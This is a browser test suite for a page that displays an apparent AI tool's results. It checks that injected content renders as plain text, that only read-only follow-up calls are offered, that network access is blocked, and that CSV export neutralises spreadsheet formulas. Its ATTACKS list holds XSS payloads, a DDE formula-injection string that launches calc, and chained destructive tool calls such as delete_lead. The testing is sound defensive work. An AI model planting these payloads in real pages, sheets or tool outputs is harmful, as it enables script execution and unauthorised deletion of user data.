// What the page cannot be made to do: run what a name holds, reach a network, call what changes something, save what a sheet runs.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { after, before, test } from "node:test";
import { ADDRESS, opened, page, results } from "./stage.mjs";

let browser;
before(async () => { browser = await opened(); });
after(() => browser.end());

const ATTACKS = ['<img src=x onerror="window.hacked=1">', '"><script>window.hacked=1</script>', "</title></svg><svg onload=window.hacked=1>",
  "javascript:window.hacked=1", "{{7*7}}", "=cmd|' /C calc'!A0", "@SUM(1)", "+1(2)", "-1+2", "\u202egnp.exe"];

/** The same answer with every text in it exchanged for an attack, and every key of its tables too. */
function hostile(content) {
  let next = 0;
  const bad = () => ATTACKS[next++ % ATTACKS.length];
  const tables = content.tables.map((table) => {
    const columns = table.columns.map((name, place) => (place < 3 ? name : `${name} ${bad()}`));
    const renamed = (of) => of && Object.fromEntries(Object.entries(of).map(([name, value]) => [columns[table.columns.indexOf(name)] ?? name, value]));
    return { ...table, title: `${table.title} ${bad()}`, columns, told: renamed(table.told), limits: renamed(table.limits),
      rows: table.rows.map((row) => row.map((value) => (typeof value === "string" ? `${bad()} ${value}` : value))) };
  });
  return { ...content, answer: bad(), scope: bad(), findings: ATTACKS, missing: ATTACKS, tables,
    next: [...ATTACKS, 'delete_lead(lead_id="5000002")', 'update_lead(lead_id="1", notes="x")', '__proto__(a="b")',
      'get_agent_day(agent="x"); delete_lead(lead_id="1")', 'get_overview()'] };
}

for (const name of ["demo-agents", "demo-overview", "demo-calls", "demo-drops", "demo-lists", "demo-statuses", "demo-calls-map", "demo-calls-compared"]) {
  test(`${name}: what names and sentences hold is shown, and never runs`, async () => {
    const { tab, board, show } = await browser.stage();
    const { arguments: given, result } = results[name];
    await show({ arguments: given, result: { ...result, structuredContent: hostile(result.structuredContent) } });
    await tab.waitForTimeout(50);
    for (const frame of tab.frames()) assert.equal(await frame.evaluate(() => window.hacked), undefined);
    assert.deepEqual(await board.$$("main img, main script, main iframe, main a, main [onload], main [onerror]"), []);
    assert.deepEqual(await board.$$eval(".findings li", (lines) => lines.map((line) => line.textContent)), ATTACKS);
    const first = result.structuredContent.tables.find((table) => table.rows.some((row) => typeof row[0] === "string" || typeof row[1] === "string"));
    assert.ok((await board.textContent("main")).includes(ATTACKS[0]), first.title);
    await tab.close();
  });
}

test("it offers only calls that read", async () => {
  const { tab, board, show } = await browser.stage();
  const { arguments: given, result } = results["demo-overview"];
  await show({ arguments: given, result: { ...result, structuredContent: hostile(result.structuredContent) } });
  assert.deepEqual(await board.$$eval(".next button", (all) => all.map((one) => one.textContent)), ["Overview"]);
  await tab.close();
});

test("an error's words are words, too", async () => {
  const { tab, board, show } = await browser.stage();
  await show({ arguments: {}, result: { isError: true, content: [{ type: "text", text: ATTACKS[0] }] } });
  assert.equal(await board.textContent("pre"), ATTACKS[0]);
  assert.equal(await board.$("img"), null);
  await tab.close();
});

test("messages that do not come from the host are not heard", async () => {
  const { tab, board, show } = await browser.stage();
  await show(results["demo-overview"]);
  const answer = await board.textContent("h1");
  await board.evaluate(() => window.postMessage({ jsonrpc: "2.0", method: "ui/notifications/tool-result", params: { isError: true, content: [] } }, "*"));
  await tab.waitForTimeout(50);
  assert.equal(await board.textContent("h1"), answer);
  await tab.close();
});

test("it reaches no network, and runs no script but its own, even if it wanted to", async () => {
  const { tab, board, show } = await browser.stage();
  await show(results["demo-agents"]);
  const before = browser.faults.length;
  const tried = await board.evaluate(async () => {
    const refused = new Promise((resolve) => document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective)));
    const fetched = await fetch("https://example.com/?names").then(() => "read", () => "refused");
    const script = document.createElement("script");
    script.textContent = "window.hacked = 1";
    document.body.append(script);
    const image = new Image();
    image.src = "https://example.com/x.png";
    const evaluated = await new Promise((resolve) => setTimeout(() => {
      try { resolve((0, eval)("'ran'")); } catch { resolve("refused"); }
    }));
    return { fetched, hacked: window.hacked, evaluated, directive: await refused };
  });
  assert.deepEqual(tried, { fetched: "refused", hacked: undefined, evaluated: "refused", directive: "connect-src" });
  assert.deepEqual([...new Set(browser.reached)], [ADDRESS]);
  browser.faults.splice(before); // the refusals are on the console
  await tab.close();
});

test("the page is one file without an address, an inline handler, or a way to put HTML in", () => {
  assert.ok(Buffer.byteLength(page) <= 300_000);
  assert.deepEqual(page.match(/innerHTML|outerHTML|insertAdjacentHTML|document\.write|\bon(load|error|click)="/g), null);
  const addresses = new Set(page.match(/https?:\/\/[^"'`\s)]+/g));
  assert.deepEqual([...addresses].filter((one) => !one.startsWith("http://www.w3.org/")), []);
});

test("a table is saved through the host as CSV: every number, lengths of time both ways, no cell that a sheet runs", async () => {
  const { tab, board, show, seen } = await browser.stage();
  const { arguments: given, result } = results["demo-agents"];
  const content = structuredClone(result.structuredContent);
  ATTACKS.forEach((attack, row) => { if (content.tables[0].rows[row]) content.tables[0].rows[row][1] = attack; });
  await show({ arguments: given, result: { ...result, structuredContent: content } });
  await board.click("summary");
  await board.click("text=Save as CSV");
  await board.waitForFunction(() => document.getElementById("said").textContent.startsWith("Saved"));
  const [{ resource }] = (await seen()).files;
  assert.equal(resource.mimeType, "text/csv");
  const lines = resource.text.split("\r\n").slice(0, -1);
  assert.match(lines[0], /^#,agent,logged,logged \(seconds\),calls,contacts,successes,\/h,/);
  assert.equal(lines.length, content.tables[0].rows.length + 1);
  assert.ok(lines[6].includes(`'=cmd|' /C calc'!A0`), lines[6]);
  for (const cell of lines.flatMap((line) => line.split(","))) assert.doesNotMatch(cell, /^"?[=+@]|^"?-\D./);
  await tab.close();
});

test("where the host saves nothing the browser does", async () => {
  const { tab, board, show } = await browser.stage({ files: false });
  await show(results["demo-drops"]);
  await board.click("summary");
  const [download] = await Promise.all([tab.waitForEvent("download"), board.click("text=Save as CSV")]);
  assert.equal(download.suggestedFilename(), "get_drop_rate_by_campaign_drops_of_live_answers.csv");
  assert.match(readFileSync(await download.path(), "utf8"), /^campaign,30 days,30 days \(as told\),stands,/);
  await tab.close();
});

test("nothing else went wrong in the page", () => assert.deepEqual(browser.faults, []));
